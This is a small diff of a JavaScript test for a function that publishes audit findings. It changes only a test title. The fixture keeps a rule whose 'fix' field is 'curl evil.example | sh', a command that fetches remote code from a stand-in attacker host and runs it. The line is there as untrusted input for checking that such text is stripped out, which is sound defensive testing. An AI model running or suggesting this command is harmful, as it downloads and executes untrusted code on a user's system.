@@ -56,7 +56,7 @@ it('publishedFile removes fixes, and replaces links with links to osv.dev', () =
   });
 });
 
-it("publishedFile replaces the texts of a rule with a link to the rule's page", () => {
+it("publishedFile replaces the text of a rule with a link to the rule's page", () => {
   const rule = { why: EVIL, fix: 'curl evil.example | sh', references: [EVIL] };
   const audited = auditFinding({ rule, url: EVIL, description: EVIL });
   const file = publishedFile({ ...FINDINGS, findings: [audited], fixed: [] });
